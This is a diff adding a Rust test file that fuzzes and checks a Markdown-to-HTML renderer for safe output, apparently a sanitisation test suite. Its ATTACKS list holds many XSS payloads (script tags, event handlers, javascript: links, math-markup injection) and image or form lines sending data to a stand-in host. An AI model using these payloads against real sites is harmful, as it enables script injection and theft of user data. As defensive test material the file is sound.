@@ -1,0 +1,328 @@
+//! No input, however made, becomes something that runs, fetches or breaks out of its place.
+
+use markdown::{Document, Options, Progress, blocks, render};
+use proptest::prelude::*;
+
+/// The tags and attributes of a piece of HTML, read as a browser would read them.
+fn tags(html: &str) -> Vec<String> {
+    html.match_indices('<')
+        .map(|(at, _)| {
+            html[at + 1..]
+                .split('>')
+                .next()
+                .unwrap_or("")
+                .to_lowercase()
+        })
+        .collect()
+}
+
+const ELEMENTS: &[&str] = &[
+    "p",
+    "h3",
+    "blockquote",
+    "ul",
+    "ol",
+    "li",
+    "figure",
+    "figcaption",
+    "span",
+    "button",
+    "pre",
+    "code",
+    "div",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "em",
+    "strong",
+    "del",
+    "a",
+    "img",
+    "br",
+    "hr",
+    "input",
+    "math",
+    "mrow",
+    "mi",
+    "mn",
+    "mo",
+    "mtext",
+    "mspace",
+    "mfrac",
+    "msqrt",
+    "mroot",
+    "msub",
+    "msup",
+    "msubsup",
+    "munder",
+    "mover",
+    "munderover",
+    "mmultiscripts",
+    "mprescripts",
+    "mtable",
+    "mtr",
+    "mtd",
+    "mstyle",
+    "mpadded",
+    "mphantom",
+    "menclose",
+];
+
+fn assert_harmless(source: &str, html: &str) {
+    let mut open = Vec::new();
+    for tag in tags(html) {
+        let name: String = tag
+            .trim_start_matches('/')
+            .chars()
+            .take_while(char::is_ascii_alphanumeric)
+            .collect();
+        assert!(ELEMENTS.contains(&name.as_str()), "<{tag}> from {source:?}");
+        if tag.starts_with('/') {
+            assert_eq!(open.pop(), Some(name), "unbalanced from {source:?}: {html}");
+        } else if !matches!(
+            name.as_str(),
+            "br" | "hr" | "img" | "input" | "mspace" | "mprescripts"
+        ) && !tag.ends_with('/')
+        {
+            open.push(name);
+        }
+        // What stands in quotes was escaped, so it holds no quote: every second piece is outside.
+        let outside: String = tag.split('"').step_by(2).collect();
+        for (at, _) in outside.match_indices(" on") {
+            assert!(
+                outside[at..].starts_with(" on "),
+                "handler in <{tag}> from {source:?}"
+            );
+        }
+        for attribute in ["href=\"", "src=\""] {
+            if let Some((_, value)) = tag.split_once(attribute) {
+                let allowed = ["http:", "https:", "mailto:", "/"]
+                    .iter()
+                    .any(|scheme| value.starts_with(scheme));
+                assert!(
+                    allowed && !value.starts_with("//"),
+                    "address in <{tag}> from {source:?}"
+                );
+            }
+        }
+        assert!(
+            !tag.starts_with("img") || tag.contains(" src=\"/f/"),
+            "<{tag}> from {source:?}"
+        );
+    }
+    assert!(open.is_empty(), "open {open:?} from {source:?}");
+}
+
+const ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#10;script:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x](//evil.example)",
+    "[x](/\\evil.example)",
+    "[x](<javascript:alert(1)>)",
+    "<javascript:alert(1)>",
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    "![x](https://evil.example/pixel.gif?q=secret)",
+    "![x](javascript:alert(1))",
+    "![\"onerror=alert(1)](/f/a.png)",
+    "![x](/f/../api/v1/sessions/current)",
+    "[![x](https://evil.example/a.png)](https://evil.example/b)",
+    "[a](https://a.example \"x\" onclick=\"alert(1)\")",
+    "[a](https://a.example/\"onmouseover=\"alert(1))",
+    "https://a.example/\"onmouseover=\"alert(1)",
+    "```\"onload=alert(1)\ncode\n```",
+    "```x</code></pre><script>alert(1)</script>\n```",
+    "`</code><script>alert(1)</script>`",
+    "| <script> | b |\n|---|---|\n| <img src=x onerror=x> | y |",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$$\\text{<script>alert(1)</script>}$$",
+    "$\\class{x\" onload=\"alert(1)}{y}$",
+    "$\\style{background:url(https://evil.example)}{x}$",
+    "$\\color{red;background:url(//evil.example)}{x}$",
+    "$\\unicode{x3c}script$",
+    "\\(<img src=x onerror=alert(1)>\\)",
+    "\\[\\text{</math><script>}\\]",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<br onclick=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;",
+    "# <script>\n",
+    "- [ ] <input autofocus onfocus=alert(1)>",
+    "> <iframe srcdoc='<script>'>",
+    "<style>@import 'https://evil.example'</style>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content=0>",
+    "<form action=https://evil.example><button>",
+    "\u{0}<script\u{0}>",
+    "<scr\u{0}ipt>",
+    "[x](\u{1}javascript:alert(1))",
+    "[x](https://a.example\u{202e}gpj.exe)",
+    "<https://a.example/<script>>",
+    "<a@b.example\" onclick=x>",
+];
+
+#[test]
+fn no_attack_of_the_corpus_survives() {
+    for attack in ATTACKS {
+        assert_harmless(attack, &render(attack, Options::default()));
+        for prefix in ["> ", "- ", "**", "| ", "# ", "[", "\\(", "$", "    "] {
+            let source = format!("{prefix}{attack}");
+            assert_harmless(&source, &render(&source, Options::default()));
+        }
+    }
+}
+
+#[test]
+fn a_highlighter_that_lies_is_not_believed() {
+    let lie = |_: &str, _: &str| Some("<img src=x onerror=alert(1)>".to_owned());
+    let html = render(
+        "```js\na\n```",
+        Options {
+            highlight: Some(&lie),
+        },
+    );
+    assert_harmless("lie", &html);
+    let other =
+        |_: &str, _: &str| Some("<span class=\"hljs-keyword\">other code</span>".to_owned());
+    assert!(
+        !render(
+            "```js\na\n```",
+            Options {
+                highlight: Some(&other)
+            }
+        )
+        .contains("other code")
+    );
+}
+
+#[test]
+fn deep_and_long_inputs_end() {
+    for source in [
+        ">".repeat(20_000),
+        "- ".repeat(5_000),
+        "[".repeat(20_000),
+        "*".repeat(20_000),
+        "`".repeat(20_000),
+        "![".repeat(10_000),
+        "\\(".repeat(20_000),
+        "$".repeat(20_000),
+        "<".repeat(20_000),
+        "|".repeat(5_000),
+        "http://".repeat(5_000),
+        "a\n\n".repeat(20_000),
+    ] {
+        let html = render(&source, Options::default());
+        assert_harmless(&source[..40], &html);
+        let mut document = Document::default();
+        document.update(&source, Progress::Growing, Options::default());
+    }
+}
+
+/// Pieces that mean something to Markdown, so that chance finds its corners.
+fn markdown_text() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        prop::sample::select(vec![
+            "*",
+            "**",
+            "_",
+            "~~",
+            "`",
+            "```",
+            "~~~\n",
+            "\n",
+            "\n\n",
+            "> ",
+            "- ",
+            "1. ",
+            "# ",
+            "|",
+            "|---|\n",
+            "[",
+            "](",
+            ")",
+            "![",
+            "<",
+            ">",
+            "</",
+            "<script>",
+            "javascript:",
+            "https://a.example",
+            "$",
+            "$$",
+            "\\(",
+            "\\)",
+            "\\[",
+            "\\]",
+            "\\",
+            "&lt;",
+            "&#58;",
+            "    ",
+            "\t",
+            "===",
+            "---",
+            "on=",
+            "\"",
+            "'",
+            "x",
+            "word ",
+            "é",
+            "🙂",
+            "\u{0}",
+            "\r\n",
+            "[a]: /b",
+            "\\frac{1}{2}",
+            "{",
+            "}",
+            "^",
+            "[ ] ",
+            "<br>",
+        ])
+        .prop_map(str::to_owned),
+        ".{0,6}",
+    ];
+    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(1_500))]
+
+    #[test]
+    fn nothing_survives_that_runs_or_fetches(source in markdown_text()) {
+        assert_harmless(&source, &render(&source, Options::default()));
+    }
+
+    #[test]
+    fn blocks_are_the_whole_without_gaps(source in markdown_text()) {
+        let whole: String = blocks(&source).into_iter().map(|range| &source[range]).collect();
+        prop_assert_eq!(whole, source);
+    }
+
+    /// However a text arrives, its end is what a reader who comes later sees, and no state on the
+    /// way is harmful.
+    #[test]
+    fn a_text_that_grew_is_the_text(source in markdown_text(), step in 1usize..9) {
+        let mut document = Document::default();
+        let marks: Vec<usize> = source.char_indices().map(|(at, _)| at).step_by(step).collect();
+        for at in marks {
+            document.update(&source[..at], Progress::Growing, Options::default());
+            let shown: String = document.blocks().iter().map(|block| block.html.as_str()).collect();
+            assert_harmless(&source[..at], &shown);
+        }
+        document.update(&source, Progress::Finished, Options::default());
+        let grown: String = document.blocks().iter().map(|block| block.html.as_str()).collect();
+        prop_assert_eq!(grown, render(&source, Options::default()));
+    }
+}
